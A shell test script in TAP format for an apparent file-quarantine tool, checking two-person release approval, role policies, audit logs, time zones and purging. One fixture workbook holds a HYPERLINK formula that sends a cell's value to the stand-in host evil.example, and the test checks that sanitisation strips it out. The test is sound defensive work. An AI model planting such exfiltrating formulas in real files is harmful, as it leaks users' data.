#!/bin/sh
# The quarantine through the command line (TAP): sanitize --state keeps the original and
# names its quarantine ID, release requests by the users of the auth service (sekisho user
# add; "Tanaka" is nobody, not tanaka) with the rights of the policy's roles (its users:
# entries included; a role removed from the policy no longer approves), the requester
# never approving even with the role, as many approvers as the policy's release.approvers,
# two approvals for an original, a held workbook released sanitised after approval,
# refusals and their exit codes, Japanese and English output, JST times, purge.
# Independent checks with cmp, sha256sum and sqlite3.
set -u
S=${SEKISHO:?}
SRC=${SK_SOURCE_ROOT:?}
T=$(mktemp -d /tmp/sk-qcli-XXXXXX)
trap 'rm -rf "$T"' EXIT
n=0 fails=0
ok() { n=$((n + 1)); echo "ok $n - $1"; }
nok() { n=$((n + 1)); fails=$((fails + 1)); echo "not ok $n - $1"; }
check() { if eval "$2"; then ok "$1"; else nok "$1"; fi; }
Q() { "$S" quarantine --state "$T/st" "$@"; }
unset TZ # times: JST without TZ; the local zone with it (checked below with TZ=UTC)

# the policy: the example's, with one more role (係長: approve, release-original); P0 is
# the same without that role, P2 wants two approvers for a release
POLICY="$SRC/examples/policy/default.yaml"
P="$T/p.yaml" P0="$T/p0.yaml" P2="$T/p2.yaml"
cp "$POLICY" "$P0"
sed 's/^  auditor: \(.*\)$/  auditor: \1\n  kakaricho: { name: 係長, name_en: Chief, permissions: [approve, release-original] }/' "$POLICY" >"$P"
sed 's/^  approvers: 1$/  approvers: 2/' "$P" >"$P2"
check "the test policies differ from the example as meant" 'grep -q "^  kakaricho:" "$P" && ! grep -q kakaricho "$P0" && grep -q "^  approvers: 2$" "$P2" && "$S" policy check "$P" >/dev/null 2>&1 && "$S" policy check "$P2" >/dev/null 2>&1'
# console users (the CLI needs no TOTP); joho-kacho is added as staff: the policy's users:
# entry gives it security-director and security-manager
printf '%s\n' 'Kx9#vq2!Lm7@pz' >"$T/pw"
adduser() { name=$1; shift; "$S" user add "$name" --state "$T/st" --policy "$P" --password-file "$T/pw" --by admin "$@" >/dev/null 2>"$T/adderr"; }
for u in "alice --role staff" "bob --role staff" "chief --role security-director" \
	"chief2 --role ciso" "tanaka --role staff --role security-manager" \
	"suzuki --role security-manager" "joho-kacho --role staff" "kakari --role kakaricho" \
	"kansa --role auditor" "yamada --role staff"; do
	# shellcheck disable=SC2086
	adduser $u || nok "user add $u: $(cat "$T/adderr")"
done
"$S" user disable yamada --state "$T/st" --by admin 2>/dev/null
check "ten users added, yamada disabled" '[ "$("$S" user list --state "$T/st" --lang en | grep -c .)" -eq 11 ] && "$S" user list --state "$T/st" --lang en | grep -q "^yamada	.*disabled$"'
check "user list with the policy: joho-kacho holds the roles of its users: entry" '"$S" user list --state "$T/st" --policy "$P" --lang en | grep "^joho-kacho	" | grep -q "security-manager"'

printf 'MZ\220\000\003\000\000\000 not really a program' >"$T/invoice.exe"
"$S" sanitize --state "$T/st" -o "$T/out" "$T/invoice.exe" >"$T/san" 2>&1
check "sanitize --state blocks the executable (exit 1)" '[ $? -eq 1 ]'
id=$(Q --lang en list | awk -F '\t' 'NR == 2 { print $1 }')
check "the original is listed in quarantine ($id)" '[ -n "$id" ]'
sha=$(sha256sum "$T/invoice.exe" | cut -d' ' -f1)
obj="$T/st/objects/$(echo "$sha" | cut -c1-2)/$sha"
check "the stored original is the submitted file, named by its sha256" 'cmp -s "$obj" "$T/invoice.exe"'
check "object mode is 0600" '[ "$(stat -c %a "$obj")" = 600 ]'
check "show gives verdict and reason (en)" 'Q --lang en show "$id" | grep -q "^reason	executable"'
check "show is Japanese by default" 'LANG=ja_JP.UTF-8 LC_ALL= Q show "$id" | grep -q "^状態	保管中"'
check "the decision is in the audit log" '"$S" audit --state "$T/st" --lang en list | grep -q "	sanitize	item:$id sha256:$sha	blocked executable"'

# two-person release of the original (a blocked item: kind original, two approvers)
check "the approvers sub-command is gone (roles come from the policy)" '! Q approvers list >/dev/null 2>&1 && ! Q approvers add chief --by admin >/dev/null 2>&1'
Q --lang en release "$id" -o "$T/early" --by alice --policy "$P" >/dev/null 2>"$T/err"
check "release before a request is refused (exit 1)" '[ $? -eq 1 ] && grep -q "not been approved" "$T/err"'
check "request needs --reason" '! Q request "$id" --by alice >/dev/null 2>&1'
LANG=ja_JP.UTF-8 LC_ALL= Q request "$id" --by Alice --reason "取引先への確認" >/dev/null 2>"$T/err"
check "--by Alice is nobody: login names are lower case (exit 1, その利用者はいません)" '[ $? -eq 1 ] && grep -q "その利用者はいません" "$T/err" && grep -q "Alice" "$T/err"'
Q --lang en request "$id" --by yamada --reason "r" >/dev/null 2>"$T/err"
check "a disabled user is refused (exit 1)" '[ $? -eq 1 ] && grep -q "disabled" "$T/err"'
Q --lang en request "$id" --by kansa --reason "r" --policy "$P" >/dev/null 2>"$T/err"
check "an auditor (no request right in the policy) cannot request (exit 1)" '[ $? -eq 1 ] && grep -q "may not request" "$T/err"'
check "request by alice" 'Q request "$id" --by alice --reason "取引先への確認" >/dev/null'
LANG=ja_JP.UTF-8 LC_ALL= Q approve "$id" --by alice --policy "$P" >/dev/null 2>"$T/err"
check "alice cannot approve her own request (exit 1, 二人制)" '[ $? -eq 1 ] && grep -q "二人制" "$T/err"'
LANG=ja_JP.UTF-8 LC_ALL= Q approve "$id" --by Alice --policy "$P" >/dev/null 2>"$T/err"
check "nor as Alice: an unknown user (exit 1)" '[ $? -eq 1 ] && grep -q "その利用者はいません" "$T/err"'
Q --lang en approve "$id" --by chief >/dev/null 2>"$T/err"
check "approve needs --policy (exit 2)" '[ $? -eq 2 ] && grep -q -- "--policy" "$T/err"'
Q --lang en approve "$id" --by bob --policy "$P" >/dev/null 2>"$T/err"
check "bob holds no approving role (exit 1)" '[ $? -eq 1 ] && grep -q "approving role" "$T/err"'
Q --lang en approve "$id" --by suzuki --policy "$P" >/dev/null 2>"$T/err"
check "suzuki (security-manager: approve, no release-original) cannot approve an original (exit 1)" '[ $? -eq 1 ] && grep -q "release-original" "$T/err"'
check "list shows 取り出し申請中 while pending" 'LANG=ja_JP.UTF-8 LC_ALL= Q list | grep "^$id	" | grep -q "取り出し申請中"'
check "chief approves (1 of 2)" 'Q --lang en approve "$id" --by chief --policy "$P" | grep -q "1 of 2"'
check "chief cannot approve twice" '! Q approve "$id" --by chief --policy "$P" >/dev/null 2>&1'
check "nor as CHIEF (nobody)" '! Q approve "$id" --by CHIEF --policy "$P" >/dev/null 2>&1'
check "release before the second approval is refused" '! Q release "$id" -o "$T/early" --by alice --policy "$P" >/dev/null 2>&1 && [ ! -e "$T/early" ]'
check "chief2 approves (complete)" 'Q approve "$id" --by chief2 --policy "$P" >/dev/null'
check "the approvals are recorded under the users' ids" '[ "$(sqlite3 "$T/st/quarantine.db" "SELECT group_concat(approver_uid) FROM (SELECT approver_uid FROM approvals ORDER BY at)")" = "$("$S" user list --state "$T/st" --json | python3 -c "import json,sys; u={j[\"name\"]: j[\"id\"] for j in map(json.loads, sys.stdin)}; print(\"%d,%d\" % (u[\"chief\"], u[\"chief2\"]))")" ]'
check "list shows 取り出し承認済み after approval" 'LANG=ja_JP.UTF-8 LC_ALL= Q list | grep "^$id	" | grep -q "取り出し承認済み"'
check "bob (not the requester) cannot take the original" '! Q release "$id" -o "$T/bob.exe" --by bob --policy "$P" >/dev/null 2>&1 && [ ! -e "$T/bob.exe" ]'
check "release needs --policy" '! Q release "$id" -o "$T/np.exe" --by alice >/dev/null 2>&1 && [ ! -e "$T/np.exe" ]'
check "release writes the original to its requester" 'Q release "$id" -o "$T/released.exe" --by alice --policy "$P" >/dev/null && cmp -s "$T/released.exe" "$T/invoice.exe"'
check "state is released" 'Q --lang en show "$id" | grep -q "^state	released"'
check "show prints times in JST" 'Q --lang en show "$id" | grep -Eq "^received	[0-9]{4}-[0-9]{2}-[0-9]{2} [0-9:]{8} JST$"'
check "TZ=UTC: show and list print the same instants in UTC, the zone written" 'j=$(Q --lang en show "$id" | sed -n "s/^received	//p"); u=$(TZ=UTC Q --lang en show "$id" | sed -n "s/^received	//p"); [ "${u% UTC}" = "$(date -u -d "$(TZ=JST-9 date -d "${j% JST}" +%s | sed "s/^/@/")" "+%Y-%m-%d %H:%M:%S")" ] && TZ=UTC Q --lang en list | grep "^$id	" | cut -f2 | grep -Eq "^[0-9-]{10} [0-9:]{8} UTC$"'
"$S" audit --state "$T/st" --lang en list >"$T/log"
for step in "alice	quarantine-request	item:$id sha256:$sha	ok" \
	"kansa	quarantine-request	item:$id sha256:$sha	refused: no-right" \
	"alice	quarantine-approve	item:$id sha256:$sha	refused: self-approval" \
	"bob	quarantine-approve	item:$id sha256:$sha	refused: not-approver" \
	"suzuki	quarantine-approve	item:$id sha256:$sha	refused: no-right" \
	"chief	quarantine-approve	item:$id sha256:$sha	ok" \
	"chief	quarantine-approve	item:$id sha256:$sha	refused: twice" \
	"chief2	quarantine-approve	item:$id sha256:$sha	ok" \
	"bob	quarantine-original	item:$id sha256:$sha	refused: not-approved" \
	"alice	quarantine-original	item:$id sha256:$sha	ok"; do
	check "audited: $(echo "$step" | cut -f1,2,4)" 'grep -qF "$step" "$T/log"'
done
check "the audit list prints JST" 'sed -n 2p "$T/log" | cut -f2 | grep -Eq "^[0-9-]{10} [0-9:]{8} JST$"'
check "the audit log verifies" '"$S" audit --state "$T/st" verify >/dev/null'

# sanitize --state names each item's quarantine ID (two files of one name told apart)
mkdir -p "$T/a" "$T/b"
printf 'MZ\220\000 first' >"$T/a/通知文.doc"
printf 'MZ\220\000 second' >"$T/b/通知文.doc"
"$S" sanitize --state "$T/st" --lang en "$T/a/通知文.doc" "$T/b/通知文.doc" >"$T/two" 2>&1
check "sanitize --state prints a quarantine ID per item" '[ "$(grep -Eo "quarantine ID [0-9]{8}-[0-9a-f]{8}" "$T/two" | sort -u | wc -l)" = 2 ]'
"$S" sanitize --state "$T/st" --json "$T/a/通知文.doc" >"$T/two.json" 2>/dev/null
check "sanitize --state --json has quarantine_id" 'python3 -c "import json,sys; j=json.load(open(sys.argv[1])); assert len(j[\"quarantine_id\"])==17" "$T/two.json"'

# a held lgwan -> internet workbook: approved, it comes out sanitised (not the original)
python3 - "$T/book.xlsx" <<'PY'
import sys, zipfile
ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
rel = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
ct = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
      '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
      '<Default Extension="xml" ContentType="application/xml"/>'
      '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
      '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')
parts = {
    '[Content_Types].xml': ct,
    '_rels/.rels': '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="%s/officeDocument" Target="xl/workbook.xml"/></Relationships>' % rel,
    'xl/workbook.xml': '<?xml version="1.0" encoding="UTF-8"?><workbook %s xmlns:r="%s"><sheets><sheet name="Data" sheetId="1" r:id="rId1"/></sheets></workbook>' % (ns, rel),
    'xl/_rels/workbook.xml.rels': '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="%s/worksheet" Target="worksheets/sheet1.xml"/></Relationships>' % rel,
    'xl/worksheets/sheet1.xml': '<?xml version="1.0" encoding="UTF-8"?><worksheet %s><sheetData><row r="1"><c r="A1"><v>1</v></c><c r="B1" t="str"><f>HYPERLINK("http://evil.example/?"&amp;A1,"click")</f><v>click</v></c></row></sheetData></worksheet>' % ns,
}
with zipfile.ZipFile(sys.argv[1], 'w', zipfile.ZIP_DEFLATED) as z:
    for n, d in parts.items():
        z.writestr(n, d)
PY
"$S" sanitize --state "$T/st" --policy "$POLICY" --from lgwan --to internet --lang en "$T/book.xlsx" >"$T/held" 2>&1
check "the workbook is held (exit 1)" '[ $? -eq 1 ] && grep -q "held" "$T/held"'
hid=$(grep -Eo "quarantine ID [0-9]{8}-[0-9a-f]{8}" "$T/held" | cut -d" " -f3)
check "its quarantine ID is printed ($hid)" '[ -n "$hid" ]'
check "tanaka (staff and security-manager) requests its release" 'Q request "$hid" --by tanaka --reason "送付" --policy "$P" >/dev/null'
Q --lang en approve "$hid" --by Tanaka --policy "$P" >/dev/null 2>"$T/err"
check "--by Tanaka is nobody (exit 1; the issue: it approved tanaka's own request)" '[ $? -eq 1 ] && grep -q "no such user" "$T/err" && grep -q "lower case" "$T/err"'
Q --lang en approve "$hid" --by tanaka --policy "$P" >/dev/null 2>"$T/err"
check "tanaka cannot approve their own request though holding the role (exit 1)" '[ $? -eq 1 ] && grep -q "requester cannot approve" "$T/err"'
Q --lang en approve "$hid" --by chief2 --policy "$P" >/dev/null 2>"$T/err"
check "the ciso does not hold the item's hold role security-manager (exit 1)" '[ $? -eq 1 ] && grep -q "approving role" "$T/err"'
check "still pending: no approval recorded" '[ "$(sqlite3 "$T/st/quarantine.db" "SELECT count(*) FROM approvals a JOIN requests r ON r.id = a.request WHERE r.item = \"$hid\"")" -eq 0 ]'
check "joho-kacho (security-manager by the policy's users:) approves: processed again" 'Q approve "$hid" --by joho-kacho --policy "$P" >/dev/null'
check "list shows 取り出し承認済み" 'LANG=ja_JP.UTF-8 LC_ALL= Q list | grep "^$hid	" | grep -q "取り出し承認済み"'
Q --lang en release "$hid" -o "$T/bob.xlsx" --by bob --policy "$P" >/dev/null 2>"$T/err"
check "bob (neither sender, requester nor approver) cannot receive the result (exit 1)" '[ $? -eq 1 ] && grep -q "only the sender" "$T/err" && [ ! -e "$T/bob.xlsx" ]'
check "release writes the result" 'Q release "$hid" -o "$T/out.xlsx" --by tanaka --policy "$P" >/dev/null'
check "the result's hand-out and the refusal are audited" '"$S" audit --state "$T/st" list | grep -q "	tanaka	quarantine-result	item:$hid .*	ok	" && "$S" audit --state "$T/st" list | grep -q "	bob	quarantine-result	item:$hid .*	refused: not-recipient	"'
check "the result is not the original" '! cmp -s "$T/out.xlsx" "$T/book.xlsx"'
check "the HYPERLINK formula is gone" 'unzip -p "$T/out.xlsx" xl/worksheets/sheet1.xml | grep -q "click" && ! unzip -p "$T/out.xlsx" xl/worksheets/sheet1.xml | grep -q HYPERLINK'

# a role removed from the policy no longer approves: kakari holds kakaricho (approve,
# release-original) in P; P0 does not define it
printf 'MZ\220\000 another program' >"$T/second.exe"
"$S" sanitize --state "$T/st" "$T/second.exe" >/dev/null 2>&1
sid=$(Q --lang en list | awk -F '\t' 'NR == 2 { print $1 }')
check "alice requests the original of a second blocked item ($sid)" 'Q request "$sid" --by alice --reason "確認" --policy "$P" >/dev/null'
Q --lang en approve "$sid" --by kakari --policy "$P0" >/dev/null 2>"$T/err"
check "kakari cannot approve under the policy without the kakaricho role (exit 1)" '[ $? -eq 1 ] && grep -q "approving role" "$T/err"'
check "kakari approves under the policy that defines it (1 of 2)" 'Q --lang en approve "$sid" --by kakari --policy "$P" | grep -q "1 of 2"'

# the policy's release.approvers: two distinct approvers for a release under P2
"$S" sanitize --state "$T/st" --policy "$P2" --from lgwan --to internet --lang en "$T/book.xlsx" >"$T/held2" 2>&1
hid2=$(grep -Eo "quarantine ID [0-9]{8}-[0-9a-f]{8}" "$T/held2" | cut -d" " -f3)
check "a second held workbook ($hid2)" '[ -n "$hid2" ] && [ "$hid2" != "$hid" ]'
check "alice requests it: 2 approvals needed" 'Q --lang en request "$hid2" --by alice --reason "送付" --policy "$P2" | grep -q "2 approval(s) needed"'
check "joho-kacho approves (1 of 2)" 'Q --lang en approve "$hid2" --by joho-kacho --policy "$P2" | grep -q "1 of 2"'
check "nothing deliverable after one approval" '! Q release "$hid2" -o "$T/one.xlsx" --by alice --policy "$P2" >/dev/null 2>&1 && [ ! -e "$T/one.xlsx" ] && Q --lang en show "$hid2" | grep -q "^state	release requested"'
Q --lang en approve "$hid2" --by joho-kacho --policy "$P2" >/dev/null 2>"$T/err"
check "joho-kacho cannot give the second approval (exit 1)" '[ $? -eq 1 ] && grep -q "already approved" "$T/err"'
check "tanaka (another security-manager) approves: complete, processed again" 'Q --lang en approve "$hid2" --by tanaka --policy "$P2" | grep -q "processed again"'
check "alice receives the sanitised result" 'Q release "$hid2" -o "$T/two.xlsx" --by alice --policy "$P2" >/dev/null && ! cmp -s "$T/two.xlsx" "$T/book.xlsx" && ! unzip -p "$T/two.xlsx" xl/worksheets/sheet1.xml | grep -q HYPERLINK'

# no --by: the operating-system user, looked up the same way
me=$(id -un)
printf 'MZ\220\000 third program' >"$T/third.exe"
"$S" sanitize --state "$T/st" "$T/third.exe" >/dev/null 2>&1
tid=$(Q --lang en list | awk -F '\t' 'NR == 2 { print $1 }')
Q --lang en request "$tid" --reason "r" >/dev/null 2>"$T/err"
check "without --by the OS user ($me), not a console user, is refused (exit 1)" '[ $? -eq 1 ] && grep -q "no such user" "$T/err" && grep -q -- "$me" "$T/err"'
if adduser "$me" --role staff; then
	check "once added, the OS user requests without --by" 'Q request "$tid" --reason "r" >/dev/null && Q --lang en show "$tid" | grep -q "^request [0-9]*	original	pending	$me "'
else
	ok "# SKIP the OS user name $me is not a login name"
fi

# retention: age the rows with sqlite3, then purge
printf 'second original' >"$T/b.bin"
"$S" sanitize --state "$T/st" "$T/b.bin" >/dev/null 2>&1
check "purge with the default retention removes nothing new" 'Q --lang en purge | grep -q "purged 0 items"'
sqlite3 "$T/st/quarantine.db" "UPDATE items SET received = received - 100*86400*1000000 WHERE id='$id'"
check "purge --older-than 90 purges the old item" 'Q --lang en purge --older-than 90 --by ops | grep -q "purged 1 items"'
check "its original is gone" '[ ! -e "$obj" ]'
check "its row stays, purged, with the hash" '[ "$(sqlite3 "$T/st/quarantine.db" "SELECT state, sha256 FROM items WHERE id=\"$id\"")" = "purged|$sha" ]'
check "the newer original stays" '[ -f "$T/st/objects/$(sha256sum "$T/b.bin" | cut -c1-2)/$(sha256sum "$T/b.bin" | cut -d" " -f1)" ]'
check "bad --older-than is refused" '! Q purge --older-than -3 >/dev/null 2>&1'
check "unknown id: exit 2" 'Q show nope >/dev/null 2>&1; [ $? -eq 2 ]'
check "default state folder under XDG_STATE_HOME" 'XDG_STATE_HOME="$T/xdg" Q_=1 "$S" quarantine list >/dev/null && [ -f "$T/xdg/sekisho/quarantine.db" ]'

echo "1..$n"
[ "$fails" -eq 0 ]
